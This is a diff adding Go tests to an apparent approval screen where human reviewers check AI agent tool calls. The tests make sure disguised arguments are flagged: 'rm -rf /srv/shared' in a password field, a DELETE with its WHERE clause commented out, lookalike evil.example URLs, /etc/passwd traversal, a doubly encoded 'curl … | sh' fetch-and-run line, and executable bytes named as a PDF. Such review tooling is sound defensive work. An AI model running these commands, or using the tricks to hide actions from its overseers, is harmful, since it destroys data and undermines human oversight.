@@ -174,3 +174,59 @@ func TestRobberyHomoglyphOnAPhone(t *testing.T) {
 		t.Errorf("marked: %q", marked)
 	}
 }
+
+// A value that the agent named like a secret is shown, with a badge, and has to be read.
+func TestRobberySecretNamedByTheAgent(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	w.offer(`{"name":"note","inputSchema":{"type":"object","properties":{"text":{"type":"string"}}}}`)
+	id := w.submit(uuid.Nil, "gallery__note", `{"text":"hello","password":"rm -rf /srv/shared"}`)
+	p := w.signInWith(browsertest.Options{})
+	p.ClickOn("#row-" + id.String() + " a")
+	p.WaitText("arguments", "rm -rf /srv/shared")
+	p.WaitText("card", "Named like a secret")
+}
+
+// A statement whose condition is in a comment.
+func TestRobberyHiddenCondition(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	id := w.submit(uuid.Nil, "files__save_csv", `{"filename":"a","sql":"DELETE FROM customers -- WHERE id = 17"}`)
+	p := w.signInWith(browsertest.Options{})
+	p.ClickOn("#row-" + id.String() + " a")
+	p.WaitText("alarm", "A comment hides a part of the statement")
+	p.WaitFor("keys to work", armed)
+	p.Press("a")
+	p.WaitText("confirm", "DELETE FROM customers -- WHERE id = 17") // as a whole
+	if a := w.approval(id); a.Status != approval.Pending {
+		t.Errorf("one key: %s", a.Status)
+	}
+	p.WaitFor("keys to work", armed)
+	p.Press("a")
+	p.WaitText("decision", "Approved")
+	if seen := w.approval(id).Seen; seen == nil || !seen.SecondStep {
+		t.Errorf("the decision records %+v", seen)
+	}
+}
+
+// Each trick is explained without a click.
+func TestTricksAreExplained(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	v := w.signedIn("ana", identity.Reviewer)
+	for name, c := range map[string]struct{ arguments, says string }{
+		"registrable domain": {`{"url":"https://amazon.com.evil.example/x"}`, "Host: evil.example"},
+		"userinfo":           {`{"url":"https://amazon.com@evil.example/"}`, "amazon.com before @ is not the host; the host is evil.example"},
+		"numeric IP":         {`{"url":"http://2130706433/"}`, "means 127.0.0.1"},
+		"traversal":          {`{"path":"/srv/shared/%2e%2e/%2e%2e/etc/passwd"}`, "/etc/passwd"},
+		"nested base64":      {`{"data":"WTNWeWJDQm9kSFJ3Y3pvdkwyVjJhV3d1WlhoaGJYQnNaUzk0SUh3Z2MyZz0="}`, "Encoded 2 times"},
+		"magic bytes":        {`{"filename":"invoice.pdf","data":"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA"}`, "but the bytes are"},
+		"keys by case":       {`{"amount":1,"Amount":1000}`, "differ only in case"},
+		"number as text":     {`{"amount":"1000"}`, `"1000"`},
+	} {
+		id := w.submit(uuid.Nil, "files__delete_file", c.arguments)
+		if text := strings.Join(strings.Fields(v.get(callPath(id)).find("arguments").Text()), " "); !strings.Contains(text, c.says) {
+			t.Errorf("%s: %q is not in %s", name, c.says, text)
+		}
+	}
+}
